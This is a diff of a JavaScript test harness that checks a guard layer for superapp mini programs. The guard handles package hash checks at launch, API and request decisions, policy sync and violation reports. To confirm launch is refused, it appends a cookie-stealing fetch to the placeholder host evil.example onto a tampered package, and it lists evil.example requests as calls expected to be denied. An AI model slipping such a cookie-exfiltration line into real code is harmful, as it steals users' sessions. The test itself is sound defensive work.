@@ -1,18 +1,33 @@
-// Wires the harness: base library ← guard ← sample mini programs, and shows
-// each call's outcome, who decided it, and the server's own request counts.
+// Wires the harness: guard serve → the bridge's sync → guard → base library
+// ← sample mini programs, and shows each call's outcome, who decided it, the
+// server's own request counts, live rows that follow every policy change,
+// the violations the page reported, and a form to try any call with its
+// explanation.
 //
-// The page's guard is created with the superapp's Ed25519 public key only
-// (GET /keys): nothing in the page can sign a bundle. Before the mini
-// program's code runs, the base library asks `launch` with the package's
-// version and SHA-256, and runs exactly the bytes it hashed.
-import { createGuard } from '/src/index.js';
+// The page's guard is made by `sync` from the superapp's configuration file
+// (/harness-config): it holds the Ed25519 public key set of keys.json only,
+// so nothing in the page can sign a bundle. Before the mini program's code
+// runs, the base library fetches its released package from guard serve,
+// asks `launch` with the package's version and SHA-256, and runs exactly the
+// bytes it hashed.
+import { sync } from '/src/index.js';
+import init, { WasmGuard } from '/pkg/guard_wasm.js';
+import { unzipSync } from '/fflate/browser.js';
 import { createBaseLibrary, webViewElement } from './base-library.mjs';
 import { OTHER_APP_STEPS } from './other-apps.mjs';
 
-const APP = 'mp_demo';
-/** The version mp_demo's code package declares (its manifest, in a real base library). */
+const APP = 'mp_shop';
+/** The version mp_shop's code package declares (its manifest, in a real base library). */
 const PACKAGE_VERSION = '1.0.0';
-const PACKAGE_URL = '/harness/mini-program.mjs';
+const PACKAGE_ENTRY = 'mini-program.mjs';
+/** Live rows: re-run on every policy change the sync brings. */
+const LIVE = [
+  ['getLocation (restricted; approved by the seed)', 'api', 'getLocation'],
+  ['chooseImage (restricted; never approved)', 'api', 'chooseImage'],
+  ['request https://evil.example/collect', 'request', 'https://evil.example/collect'],
+  ['request https://api.shop.example/v1/items', 'request', 'https://api.shop.example/v1/items'],
+];
+const KIND_METHOD = { request: 'checkRequest', upload: 'checkUpload', download: 'checkDownload', socket: 'checkSocket', webview: 'checkWebview' };
 /** Hosts no call may reach: shown with the server's own hit counts. */
 const WATCHED = [
   ['evil.example', 'another domain (direct, by redirect, web-view)'],
@@ -129,28 +144,112 @@ async function runStep(label, app, wx, step, ctx) {
   return r;
 }
 
+/** The page's storage for the sync: localStorage, as a base library's own store. */
+const storage = {
+  get: async (k) => localStorage.getItem(k),
+  set: async (k, v) => { localStorage.setItem(k, v); },
+};
+
+/** The bridge's decision for one call of any kind (tcp/udp: `host:port`). */
+function decide(guard, app, kind, subject) {
+  if (kind === 'api') return guard.checkApi(app, subject);
+  if (kind === 'tcp' || kind === 'udp') {
+    const at = subject.lastIndexOf(':');
+    const host = at < 0 ? subject : subject.slice(0, at);
+    const port = at < 0 ? 0 : Number(subject.slice(at + 1));
+    return kind === 'tcp' ? guard.checkTcp(app, host, port) : guard.checkUdp(app, host, port);
+  }
+  return guard[KIND_METHOD[kind]](app, subject);
+}
+
+function showLive(synced) {
+  const st = synced.status();
+  $('sync').textContent = `policy version ${st.version} (ETag ${st.etag}) from guard serve; ${st.longPoll ? 'long-poll: the server holds each request until the policy changes' : 'the server did not hold the request: polling every second'}; ${st.online ? 'online' : `offline (${st.lastError})`}${st.lastRefusal ? `; refused: ${st.lastRefusal}` : ''}`;
+  $('live').textContent = '';
+  for (const [label, kind, subject] of LIVE) {
+    const d = decide(synced.guard, APP, kind, subject);
+    const tr = document.createElement('tr');
+    tr.className = d.allow ? 'ok' : 'denied';
+    tr.dataset.live = subject;
+    cell(tr, label);
+    cell(tr, d.allow ? 'allowed' : `denied: ${d.code}`, 'decision');
+    cell(tr, d.message, 'msg');
+    $('live').append(tr);
+  }
+}
+
+/** "Try a call": the bridge's decision and guard-core's explanation (WasmGuard.explain over the same keys and bundle). */
+function tryCall(synced) {
+  const app = $('try-app').value;
+  const kind = $('try-kind').value;
+  const subject = $('try-subject').value;
+  const d = decide(synced.guard, app, kind, subject);
+  const { keys, bundle } = synced.current();
+  let explanation = null;
+  if (keys !== null && bundle !== null) {
+    const g = WasmGuard.withKeys(keys);
+    g.load(bundle, Date.now() / 1000);
+    explanation = g.explain(app, kind, subject, Date.now() / 1000);
+    g.free();
+  }
+  $('try-decision').textContent = `${d.allow ? 'allowed' : `denied: ${d.code}`} — ${d.message}${d.href ? ` (forwarded as ${d.href})` : ''}`;
+  $('try-decision').className = d.allow ? 'ok' : 'denied';
+  $('try-why').textContent = explanation === null ? 'no policy in force' : `${explanation.rule}: ${explanation.reason}${explanation.entry ? ` [${explanation.entry}]` : ''}`;
+  return { decision: d, explanation };
+}
+
+/** Sends the page's reports (as on going to the background) and shows what guard serve recorded. */
+async function reportAndShow(synced) {
+  const sent = await synced.background();
+  const v = await (await fetch(`/violations?app=${APP}`)).json();
+  $('violations').textContent = '';
+  const tr0 = document.createElement('tr');
+  cell(tr0, `reports sent by the page: ${sent}`);
+  $('violations').append(tr0);
+  if (!v.available) {
+    const tr = document.createElement('tr');
+    cell(tr, v.error ?? `guard serve answered ${v.status}`);
+    $('violations').append(tr);
+    return { sent, violations: v };
+  }
+  const rows = JSON.stringify(v.body);
+  const tr = document.createElement('tr');
+  tr.dataset.violations = 'true';
+  cell(tr, rows.length > 2000 ? `${rows.slice(0, 2000)}…` : rows, 'msg');
+  $('violations').append(tr);
+  return { sent, violations: v };
+}
+
 async function main() {
-  const { keys } = await (await fetch('/keys')).json();
-  const guard = await createGuard({ keys });
-  const bundle = await (await fetch('/bundle')).text();
-  const loaded = guard.load(bundle);
+  await init();
+  const config = await (await fetch('/harness-config')).json();
+  const synced = await sync({ config, storage, intervalSeconds: 1 });
+  const guard = synced.guard;
+  const { bundle, keys } = synced.current();
+  if (bundle === null) throw new Error(`no policy from guard serve: ${JSON.stringify(synced.status())}`);
+  const loaded = { code: 'ok', message: '' };
   const header = JSON.parse(atob(bundle.split('.')[0].replace(/-/g, '+').replace(/_/g, '/')));
   const policy = JSON.parse(new TextDecoder().decode(Uint8Array.from(atob(bundle.split('.')[1].replace(/-/g, '+').replace(/_/g, '/')), (c) => c.charCodeAt(0))));
   $('policy').textContent = `policy: schema ${policy.schema}, version ${policy.version}, alg ${header.alg}, kid ${header.kid}; `
-    + `page guard (public key only, no secret): load ${loaded.code}${loaded.message ? ` (${loaded.message})` : ''}; `
+    + `page guard (keys.json only, no secret), synced by the bridge's sync; `
     + `blocked_hosts ${JSON.stringify(policy.blocked_hosts)}; removed: ${policy.apps.filter((a) => a.removed).map((a) => a.app_id).join(', ')}`;
+  showLive(synced);
+  synced.onChange(() => showLive(synced));
+  synced.onStatus(() => showLive(synced));
+  $('try-go').onclick = () => { window.__harness.tried = tryCall(synced); };
+  $('report-go').onclick = () => { reportAndShow(synced).then((r) => { window.__harness.reported = r; }); };
   const ctx = { violations: [], native: null };
   guard.onViolation((v) => ctx.violations.push(v));
   const baseLibrary = (appId) => createBaseLibrary((m) => console.log(m), { appId, onNative: (n) => { ctx.native = n; } });
 
   // Launch: the base library asks before it runs a code package (contract v2 §3.5).
-  section('calls', 'Launch: the base library checks the code package before running it');
-  const pkg = new Uint8Array(await (await fetch(PACKAGE_URL)).arrayBuffer());
+  section('calls', 'Launch: the base library checks the code package (fetched from guard serve) before running it');
+  const pkg = new Uint8Array(await (await fetch(config.package_url_template.replace('{app_id}', APP))).arrayBuffer());
   const tampered = new Uint8Array([...pkg, ...new TextEncoder().encode('\n;fetch("https://evil.example/?c="+document.cookie);\n')]);
   const launches = [
-    ['launch mp_demo 1.0.0, the released package', PACKAGE_VERSION, pkg],
-    ['launch mp_demo 1.0.0, a package with one extra line', PACKAGE_VERSION, tampered],
-    ['launch mp_demo 1.1.0, a version never released', '1.1.0', pkg],
+    [`launch ${APP} 1.0.0, the released package`, PACKAGE_VERSION, pkg],
+    [`launch ${APP} 1.0.0, a package with one extra line`, PACKAGE_VERSION, tampered],
+    [`launch ${APP} 1.1.0, a version never released`, '1.1.0', pkg],
   ];
   let launchOk = false;
   for (const [label, version, bytes] of launches) {
@@ -160,11 +259,12 @@ async function main() {
     if (bytes === pkg && version === PACKAGE_VERSION && d.allow) launchOk = true;
   }
   if (!launchOk) throw new Error('the released package was not allowed to launch');
-  // Run exactly the bytes that were hashed and allowed.
-  const mp = await import(URL.createObjectURL(new Blob([pkg], { type: 'text/javascript' })));
+  // Run exactly the bytes that were hashed and allowed: the zip's one entry.
+  const code = unzipSync(pkg)[PACKAGE_ENTRY];
+  const mp = await import(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
 
   const wx = guard.wrap(baseLibrary(APP), { appId: APP });
-  section('calls', 'mp_demo calls (checked by the bridge in the page)');
+  section('calls', `${APP} calls (checked by the bridge in the page)`);
   for (const [label, step] of mp.STEPS) await runStep(label, APP, wx, step, ctx);
   section('calls', 'Redirects: followed and checked hop by hop by the base library\'s native layer (server process, its own wasm guard)');
   for (const [label, step] of mp.REDIRECT_STEPS) await runStep(label, APP, wx, step, ctx);
@@ -185,7 +285,13 @@ async function main() {
 
   const stats = await refreshStats();
   $('counters').textContent = JSON.stringify(guard.counters());
-  window.__harness = { done: true, load: loaded, results, violations: ctx.violations.map((v) => ({ ...v })), stats, counters: guard.counters() };
+  const reported = await reportAndShow(synced);
+  window.__harness = {
+    done: true, load: loaded, results, violations: ctx.violations.map((v) => ({ ...v })), stats, counters: guard.counters(),
+    keys, reported, status: () => synced.status(), current: () => synced.current(),
+    decide: (app, kind, subject) => decide(guard, app, kind, subject),
+    report: () => reportAndShow(synced),
+  };
   document.body.dataset.done = 'true';
 }
 
